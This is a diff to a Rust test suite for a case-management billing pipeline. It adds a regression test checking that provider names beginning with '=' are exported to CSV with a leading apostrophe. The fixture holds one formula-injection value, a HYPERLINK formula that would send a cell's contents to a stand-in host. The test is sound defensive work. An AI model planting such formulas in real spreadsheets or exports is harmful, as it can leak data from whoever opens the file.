@@ -93,7 +93,8 @@ fn providers_of(submitter: &str) -> Vec<Rec> {
         HEN => vec![
             p(A, "county", "Hennepin County Case Management", "AMH-TCM;CW-TCM;EW;CADI"),
             p(B, "private", "Lakes Community Services", "AMH-TCM;CADI").set("phone", "612-555-0144"),
-            p(C, "private", "Cedar Case Management", "AMH-TCM;CMH-TCM"),
+            // A name a spreadsheet would run as a formula (issue 13): the CSV must keep it text.
+            p(C, "private", FORMULA_NAME, "AMH-TCM;CMH-TCM"),
             p(M, "mco", "Metro Health Plan Case Management", "AMH-TCM"),
         ],
         RAM => vec![p(R, "county", "Ramsey County Case Management", "AMH-TCM;CW-TCM;CADI").set("counties_served", "27123")],
@@ -506,6 +507,8 @@ fn billing_world(with_q1: bool) -> Ingest {
     w.run()
 }
 
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"Cedar\")";
+
 fn list(out: &Path, check: &str) -> Vec<BTreeMap<String, Cell>> {
     let (cols, rows) = read_parquet(&out.join("restricted/billing").join(format!("{check}.parquet")));
     // The CSV holds the same rows and columns.
@@ -514,6 +517,13 @@ fn list(out: &Path, check: &str) -> Vec<BTreeMap<String, Cell>> {
     if let Some(first) = csv.first() {
         let names: BTreeSet<&str> = cols.iter().map(|(c, _)| c.as_str()).collect();
         assert_eq!(first.keys().map(String::as_str).collect::<BTreeSet<_>>(), names, "{check}: CSV columns");
+    }
+    // Text that a spreadsheet would run as a formula is written with a leading `'`.
+    for (c, r) in csv.iter().zip(&rows) {
+        if let Some(Cell::Str(name)) = r.get("provider_name") {
+            let want = if name.starts_with('=') { format!("'{name}") } else { name.clone() };
+            assert_eq!(c["provider_name"], want, "{check}");
+        }
     }
     rows
 }
@@ -544,6 +554,8 @@ fn billing_checks_list_the_rows_that_trigger_them() {
 
     // Check 1.
     let dup = list(out, "duplicate-tcm");
+    let text = std::fs::read_to_string(out.join("restricted/billing/duplicate-tcm.csv")).unwrap();
+    assert!(text.contains("\"'=HYPERLINK(") && !text.contains(",\"=HYPERLINK("), "provider C's name is kept as text:\n{text}");
     let p = |n: u64| pid(n);
     assert_eq!(
         pick(&dup, &["month", "person_id", "cm_type", "provider_id", "provider_kind", "billed_contacts", "providers_billing", "same_kind_providers", "reason"]),
